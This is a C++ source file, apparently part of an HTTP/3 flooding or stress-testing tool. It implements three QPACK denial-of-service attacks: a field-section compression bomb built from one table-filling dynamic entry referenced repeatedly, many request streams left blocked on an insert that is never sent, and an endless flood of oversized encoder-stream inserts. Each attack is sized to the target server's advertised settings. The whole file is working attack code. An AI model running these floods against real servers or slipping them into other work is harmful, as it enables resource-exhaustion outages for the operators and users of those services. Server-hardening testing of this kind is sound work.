// The QPACK floods (h3/floods.hpp): the field-section bomb, blocked streams past the
// server's limit, and the encoder stream's inserts without end. What each writes follows the
// server's SETTINGS (its dynamic table's capacity, its field-section limit): RFC 9204 4.3
// (encoder instructions), 4.5 (field sections), 2.1.2 (blocked streams).
#include <algorithm>

#include "h3/flood/transport_floods.hpp"
#include "h3/qpack_lines.hpp"

namespace loiter::clients::h3 {

namespace qpack_floods {

constexpr std::uint64_t kEntryOverhead = 32;        // RFC 9204 3.2.1: an entry's size
constexpr std::uint64_t kDefaultLimit = 64 << 10;   // where the server set no limit
constexpr std::uint64_t kMostDecoded = 4ULL << 20;  // a bomb decodes to this at most
constexpr std::size_t kLiteralValue = 1000;         // a literal bomb line's value
constexpr std::string_view kBombName = "x-bomb";

// Required Insert Count as the prefix carries it (RFC 9204 4.5.1.1): for the server's
// table capacity; past what a table of that capacity could hold, as a blocked stream's is
// with no table at all.
std::uint64_t encoded_insert_count(std::uint64_t required, std::uint64_t capacity) {
  if (required == 0) return 0;
  const std::uint64_t entries = capacity / kEntryOverhead;
  if (entries == 0) return required + 1;
  return required % (2 * entries) + 1;
}

// A request's field lines after its prefix: GET, https, the path and the authority.
void request_lines(std::string& out, const H3Options& options) {
  put_prefixed(out, 0xc0, 6, 17);  // :method GET (static 17)
  put_prefixed(out, 0xc0, 6, 23);  // :scheme https (static 23)
  put_literal(out, 1, options.path);
  put_literal(out, 0, options.authority);
}

std::string headers_frame(const std::string& section) {
  return frame_header(0x01, section.size()) + section;
}

// The field-section size the bomb must pass (RFC 9114 4.2.2), four times over.
std::uint64_t bomb_target(const ServerSettings& settings) {
  const std::uint64_t limit = settings.max_field_section_size.value_or(kDefaultLimit);
  return std::min(kMostDecoded, 4 * std::min(limit, kMostDecoded));
}

}  // namespace qpack_floods

using namespace qpack_floods;

QpackBomb::QpackBomb(Executor executor, std::shared_ptr<const H3FloodOptions> flood,
                     std::size_t index, ConnectionRecord& record)
    : FloodConnection(executor, std::move(flood), index, record, kH3QpackBomb, false) {}

void QpackBomb::open_flood() {
  const std::uint64_t capacity = settings().table_capacity;
  const std::uint64_t target = bomb_target(settings());
  std::string section;
  if (capacity > kEntryOverhead + kBombName.size()) {
    // One entry as large as the table takes, referenced over and over: each one-byte
    // reference decodes to `capacity` bytes of field section.
    const std::int64_t encoder = open_uni(0x02);
    std::string instructions;
    put_prefixed(instructions, 0x20, 5, capacity);          // Set Dynamic Table Capacity
    put_prefixed(instructions, 0x40, 5, kBombName.size());  // Insert With Literal Name
    instructions += kBombName;
    const std::string value(capacity - kEntryOverhead - kBombName.size(), 'b');
    put_prefixed(instructions, 0x00, 7, value.size());
    instructions += value;
    if (encoder < 0 || !queue(encoder, std::move(instructions), false)) {
      h3().credit_stalled = true;  // no encoder stream, or no credit for it
      return;
    }
    put_prefixed(section, 0x00, 8, encoded_insert_count(1, capacity));
    section.push_back(0x00);  // Delta Base 0: the base is the one insert
    request_lines(section, flood().h3);
    const std::uint64_t references = (target + capacity - 1) / capacity;
    section.append(static_cast<std::size_t>(references), static_cast<char>(0x80));
  } else {
    // No dynamic table: literal lines, as many as the target takes and the stream's window
    // lets through. A server whose window is smaller than its own limit cannot be made to
    // take a section past it: that is its refusal.
    section.append(2, '\0');
    request_lines(section, flood().h3);
    const std::uint64_t line = kBombName.size() + kLiteralValue + kEntryOverhead;
    const std::uint64_t lines = (target + line - 1) / line;
    const std::string value(kLiteralValue, 'b');
    for (std::uint64_t i = 0; i < lines; ++i) put_literal_name(section, kBombName, value);
    if (section.size() + 16 > link().stream_window) {
      h3().credit_stalled = true;
      return;
    }
  }
  headers_ = headers_frame(section);
}

bool QpackBomb::add_flood_frames(quic::Bytes&, std::size_t, std::size_t& added) {
  if (headers_.empty()) return false;  // refused before it began (see open_flood)
  if (sending()) return true;          // the last bomb is still going out
  const auto id = open_bidi();
  if (!id) return false;
  if (!queue(*id, headers_, /*fin=*/true)) return false;
  ++added;
  return true;
}

QpackBlocked::QpackBlocked(Executor executor, std::shared_ptr<const H3FloodOptions> flood,
                           std::size_t index, ConnectionRecord& record)
    : FloodConnection(executor, std::move(flood), index, record, kH3QpackBlocked, false) {}

bool QpackBlocked::add_flood_frames(quic::Bytes& payload, std::size_t room, std::size_t& added) {
  if (headers_.empty()) {
    // A section that needs an insert never sent: each such stream waits for it (blocked).
    std::string section;
    put_prefixed(section, 0x00, 8, encoded_insert_count(1, settings().table_capacity));
    section.push_back(0x00);
    request_lines(section, flood().h3);
    headers_ = headers_frame(section);
  }
  while (room >= payload.size() + headers_.size() + 24 && added < frames_left()) {
    if (!take_credit(headers_.size())) return false;
    const auto id = open_bidi();
    if (!id) return false;
    quic::put_stream(
        payload, static_cast<std::uint64_t>(*id), 0,
        quic::ByteSpan(reinterpret_cast<const std::uint8_t*>(headers_.data()), headers_.size()),
        /*fin=*/true);
    ++added;
  }
  return true;
}

EncoderStreamFlood::EncoderStreamFlood(Executor executor,
                                       std::shared_ptr<const H3FloodOptions> flood,
                                       std::size_t index, ConnectionRecord& record)
    : FloodConnection(executor, std::move(flood), index, record, kH3EncoderStreamFlood, false) {}

void EncoderStreamFlood::open_flood() {
  encoder_ = open_uni(0x02);
  const std::uint64_t capacity = settings().table_capacity;
  std::string opening;
  put_prefixed(opening, 0x20, 5, capacity);  // Set Dynamic Table Capacity
  if (encoder_ >= 0) queue(encoder_, std::move(opening), false);
  // Each insert as large as the table: it evicts the one before. With no table, small
  // inserts (each one the server must refuse).
  const std::uint64_t value = capacity > kEntryOverhead + kBombName.size()
                                  ? capacity - kEntryOverhead - kBombName.size()
                                  : 64;
  put_prefixed(insert_, 0x40, 5, kBombName.size());
  insert_ += kBombName;
  put_prefixed(insert_, 0x00, 7, value);
  insert_.append(static_cast<std::size_t>(value), 'e');
}

bool EncoderStreamFlood::add_flood_frames(quic::Bytes&, std::size_t, std::size_t& added) {
  if (encoder_ < 0) return false;
  if (sending()) return true;
  if (!queue(encoder_, insert_, false)) return false;
  ++added;
  return true;
}

}  // namespace loiter::clients::h3
